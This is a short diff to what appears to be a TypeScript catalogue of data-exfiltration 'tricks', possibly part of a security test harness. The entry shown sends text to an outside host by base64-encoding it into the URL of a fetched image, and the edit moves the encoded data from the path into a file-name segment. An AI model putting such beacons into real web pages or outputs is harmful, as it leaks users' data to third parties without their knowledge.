@@ -14,10 +14,10 @@ export const LOADS: readonly Trick[] = [
   },
   {
     name: "image-elsewhere-base64",
-    about: "The same with the message in base64, in the path.",
+    about: "The same with the message in base64, as a part of a file's name.",
     holes: BY_ITSELF,
     send: (kit) =>
-      void (new Image().src = `${there(kit)}/${btoa(kit.text).replace(/=+$/u, "")}.png`),
+      void (new Image().src = `${there(kit)}.${btoa(kit.text).replace(/=+$/u, "")}.png`),
   },
   {
     name: "image-elsewhere-hex",
